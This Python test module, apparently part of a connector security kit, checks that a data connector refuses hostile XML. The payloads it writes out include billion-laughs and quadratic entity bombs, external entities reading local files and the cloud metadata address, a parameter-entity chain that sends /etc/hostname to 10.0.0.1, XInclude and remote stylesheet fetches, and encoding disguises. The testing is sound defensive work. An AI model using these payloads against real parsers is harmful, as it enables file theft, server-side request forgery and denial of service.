"""What XML can ask of its reader: entities, files, other machines."""

from __future__ import annotations

import re
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

from connectors.kit.hostile.base import Check, Outcome, Play, scenario
from connectors.kit.hostile.checks import incomplete, reached_only, unresolved
from connectors.kit.hostile.ordinary import Ordinary, Page
from connectors.kit.hostile.rows import Rows
from connectors.kit.hostile.server import Reply
from connectors.kit.hostile.xml_rows import XmlRows

_CANARY = "isi-berkas-yang-tidak-boleh-terbaca-4711"
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
_MEMORY = 24


def _attacked(ordinary: Ordinary, doctype: str, use: str, *checks: Check) -> Iterator[Play]:
    """
    The declaration and its use in a document of its own in the place of the first answer, and in the connector's own documents where
    they are XML.
    """
    lone = f"{_HEAD}{doctype}<daftar><judul>{use}</judul></daftar>".encode()
    reply = Reply(lone, headers={"Content-Type": "application/xml"})
    yield ordinary.play(ordinary.first(reply), incomplete, unresolved, reached_only(), *checks, memory=_MEMORY, twice=False)
    for page in ordinary.pages:
        if isinstance(page.rows, XmlRows):
            answer = ordinary.answering({page.number: page.holding(_own(page, page.rows, doctype, use))})
            yield ordinary.play(answer, unresolved, reached_only(), *checks, memory=_MEMORY, twice=False)


def _own(page: Page, rows: Rows, doctype: str, use: str) -> bytes:
    """The page's own document with the declaration before its root and the use in its texts."""
    body = rows.body([rows.edited(row, lambda text: f"{text} SISIP-DI-SINI") for row in rows.rows]).replace(b"SISIP-DI-SINI", use.encode())
    declared = re.match(rb"\s*<\?xml[^>]*\?>", body)
    at = declared.end() if declared else 0
    return body[:at] + doctype.encode() + body[at:]


@scenario("Bom entitas (billion laughs)")
def entity_bomb(ordinary: Ordinary) -> Iterator[Play]:
    """Entities of entities, a billion times one word: refused before anything is put in its place."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10))
    yield from _attacked(ordinary, f"<!DOCTYPE daftar [{entities}]>", "&a9;")


@scenario("Ledakan kuadrat entitas")
def quadratic_entities(ordinary: Ordinary) -> Iterator[Play]:
    """One long entity used ten thousand times: refused."""
    yield from _attacked(ordinary, f'<!DOCTYPE daftar [<!ENTITY p "{"panjang " * 5_000}">]>', "&p;" * 10_000)


@scenario("Entitas luar: berkas")
def external_entity_of_a_file(ordinary: Ordinary) -> Iterator[Play]:
    """An entity that is a file of this machine: not read, and nothing of it anywhere."""
    with tempfile.TemporaryDirectory() as folder:
        secret = Path(folder) / "rahasia.txt"
        secret.write_text(_CANARY, encoding="utf-8")
        doctype = f'<!DOCTYPE daftar [<!ENTITY berkas SYSTEM "{secret.as_uri()}">]>'
        yield from _attacked(ordinary, doctype, "&berkas;", _without_the_canary)


@scenario("Entitas luar: alamat lain")
def external_entity_of_a_host(ordinary: Ordinary) -> Iterator[Play]:
    """Entities and document types at the metadata service and at a host outside: nobody is asked."""
    for place in ("http://169.254.169.254/latest/meta-data/", "http://sumber.example/x.dtd", "ftp://10.0.0.1/x"):
        yield from _attacked(ordinary, f'<!DOCTYPE daftar [<!ENTITY luar SYSTEM "{place}">]>', "&luar;")
        yield from _attacked(ordinary, f'<!DOCTYPE daftar SYSTEM "{place}">', "teks")


@scenario("Entitas parameter")
def parameter_entities(ordinary: Ordinary) -> Iterator[Play]:
    """Parameter entities that load a declaration from outside and send a file there: nobody is asked, no file is read."""
    doctype = (
        '<!DOCTYPE daftar [<!ENTITY % berkas SYSTEM "file:///etc/hostname"><!ENTITY % luar SYSTEM "http://10.0.0.1/x.dtd">%luar;'
        "<!ENTITY &#x25; kirim SYSTEM 'http://10.0.0.1/?%berkas;'>]>"
    )
    yield from _attacked(ordinary, doctype, "teks")


@scenario("XInclude dan lembar gaya")
def xinclude(ordinary: Ordinary) -> Iterator[Play]:
    """An XInclude of a file, a style sheet at another host, a schema location: nothing of them is followed."""
    use = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/hostname"/>'
        '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://10.0.0.1/ http://10.0.0.1/x.xsd"/>'
    )
    yield from _attacked(ordinary, '<?xml-stylesheet type="text/xsl" href="http://10.0.0.1/x.xsl"?>', use)


@scenario("Entitas dalam pengodean lain")
def entities_in_disguise(ordinary: Ordinary) -> Iterator[Play]:
    """The declaration in UTF-16 and in UTF-7, in small letters, after comments: refused as well."""
    document = '<!DOCTYPE daftar [<!ENTITY a SYSTEM "file:///etc/hostname">]><daftar>&a;</daftar>'
    disguises: tuple[tuple[str, Callable[[], bytes]], ...] = (
        ("utf-16", lambda: (_HEAD.replace("UTF-8", "UTF-16") + document).encode("utf-16")),
        ("utf-7", lambda: (_HEAD.replace("UTF-8", "UTF-7") + document).encode("utf-7")),
        ("huruf kecil", lambda: (_HEAD + document.replace("DOCTYPE", "doctype")).encode()),
        ("komentar", lambda: (_HEAD + "<!-- x -->" * 500 + document).encode()),
    )
    for label, body in disguises:
        reply = Reply(body(), headers={"Content-Type": "application/xml"})
        yield ordinary.play(ordinary.first(reply), incomplete, unresolved, reached_only(), label=label, twice=False)


def _without_the_canary(outcome: Outcome, ordinary: Ordinary) -> str | None:
    shown = [str(raw.body) for raw in outcome.listings] + [str(told) for told in outcome.told] + [outcome.said]
    shown += [outcome.error.message] if outcome.error else []
    return "Isi berkas di mesin ini terbaca lewat entitas." if any(_CANARY in text for text in shown) else None
